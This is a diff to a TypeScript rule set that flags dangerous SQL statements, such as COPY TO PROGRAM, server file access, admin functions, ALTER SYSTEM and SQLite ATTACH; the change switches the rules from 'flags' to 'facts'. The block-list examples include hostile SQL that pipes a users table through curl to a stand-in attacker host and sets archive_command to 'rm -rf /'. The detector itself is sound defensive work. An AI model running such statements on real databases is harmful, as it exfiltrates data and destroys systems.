@@ -4,8 +4,6 @@ import { SYSTEM_CATALOG } from '../../analyze/sql/statement.js';
 import type { SqlStatement } from '../../core/ir.js';
 import type { DetailedSqlRule } from './match.js';
 
-const str = (v: unknown) => (typeof v === 'string' ? v : undefined);
-
 const CATALOG_CHANGES = new Set(['insert', 'update', 'delete', 'merge', 'truncate', 'alter']);
 
 const catalogTarget = (s: SqlStatement) => (CATALOG_CHANGES.has(s.kind) ? s.targets.find((t) => SYSTEM_CATALOG.test(t)) : undefined);
@@ -43,8 +41,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: ["COPY users TO PROGRAM 'curl -d @- http://evil.example'", "COPY t FROM PROGRAM 'id'"],
       allow: ['COPY users TO STDOUT', 'COPY users (id, name) FROM STDIN'],
     },
-    match: (s) => typeof s.flags.copyProgram === 'string',
-    detail: (s) => `PROGRAM '${String(s.flags.copyProgram)}'`,
+    match: (s) => s.facts.copyProgram !== undefined,
+    detail: (s) => `PROGRAM '${String(s.facts.copyProgram)}'`,
   },
   {
     id: 'sql.server_file',
@@ -63,8 +61,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       ],
       allow: ['COPY users TO STDOUT', "SELECT read_file_name FROM uploads WHERE id = 1", { sql: 'SELECT * FROM files', dialect: 'mysql' }],
     },
-    match: (s) => typeof s.flags.serverFile === 'string',
-    detail: (s) => str(s.flags.serverFile),
+    match: (s) => s.facts.serverFile !== undefined,
+    detail: (s) => s.facts.serverFile,
   },
   {
     id: 'sql.code_execution',
@@ -89,8 +87,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
         'CREATE EXTENSION IF NOT EXISTS pgcrypto',
       ],
     },
-    match: (s) => typeof s.flags.codeExecution === 'string',
-    detail: (s) => str(s.flags.codeExecution),
+    match: (s) => s.facts.codeExecution !== undefined,
+    detail: (s) => s.facts.codeExecution,
   },
   {
     id: 'sql.admin_function',
@@ -101,8 +99,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'SELECT pg_reload_conf()', { sql: 'EXEC sp_configure', dialect: 'transactsql' }],
       allow: ['SELECT pid, state FROM pg_stat_activity'],
     },
-    match: (s) => typeof s.flags.adminFunction === 'string',
-    detail: (s) => str(s.flags.adminFunction),
+    match: (s) => s.facts.adminFunction !== undefined,
+    detail: (s) => s.facts.adminFunction,
   },
   {
     id: 'sql.server_config',
@@ -113,8 +111,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: ["ALTER SYSTEM SET archive_command = 'rm -rf /'", { sql: 'SET GLOBAL general_log = 1', dialect: 'mysql' }, { sql: 'SET PERSIST max_connections = 1', dialect: 'mysql' }],
       allow: ['SET statement_timeout = 1000', { sql: "SET SESSION sql_mode = 'ANSI'", dialect: 'mysql' }, 'SHOW archive_command'],
     },
-    match: (s) => typeof s.flags.serverConfig === 'string',
-    detail: (s) => str(s.flags.serverConfig),
+    match: (s) => s.facts.serverConfig !== undefined,
+    detail: (s) => s.facts.serverConfig,
   },
   {
     id: 'sql.pragma_writable_schema',
@@ -125,7 +123,7 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: [{ sql: 'PRAGMA writable_schema = 1', dialect: 'sqlite' }, { sql: 'PRAGMA writable_schema=ON;', dialect: 'sqlite' }],
       allow: [{ sql: 'PRAGMA writable_schema', dialect: 'sqlite' }, { sql: 'PRAGMA table_info(users)', dialect: 'sqlite' }, { sql: 'PRAGMA writable_schema = OFF', dialect: 'sqlite' }],
     },
-    match: (s) => s.flags.writableSchema === true,
+    match: (s) => s.facts.writableSchema === true,
   },
   {
     id: 'sql.attach',
@@ -136,8 +134,8 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: [{ sql: "ATTACH DATABASE '/tmp/evil.db' AS evil", dialect: 'sqlite' }],
       allow: [{ sql: 'SELECT * FROM attachments', dialect: 'sqlite' }],
     },
-    match: (s) => typeof s.flags.attach === 'string',
-    detail: (s) => str(s.flags.attach),
+    match: (s) => s.facts.attach !== undefined,
+    detail: (s) => s.facts.attach,
   },
   {
     id: 'sql.pragma',
@@ -148,7 +146,7 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       block: [{ sql: 'PRAGMA foreign_keys = OFF', dialect: 'sqlite' }, { sql: 'PRAGMA journal_mode = DELETE', dialect: 'sqlite' }],
       allow: [{ sql: 'PRAGMA table_info(users)', dialect: 'sqlite' }, { sql: 'PRAGMA foreign_keys', dialect: 'sqlite' }],
     },
-    match: (s) => s.kind === 'pragma' && s.flags.pragmaWrite === true && s.flags.writableSchema !== true,
+    match: (s) => s.kind === 'pragma' && s.facts.pragmaWrite === true && s.facts.writableSchema !== true,
   },
   {
     id: 'sql.call',
@@ -160,6 +158,6 @@ export const SERVER_RULES: DetailedSqlRule[] = [
       allow: ['SELECT refresh_stats FROM jobs'],
     },
     match: (s) => s.kind === 'call',
-    detail: (s) => str(s.flags.callee),
+    detail: (s) => s.facts.callee,
   },
 ];
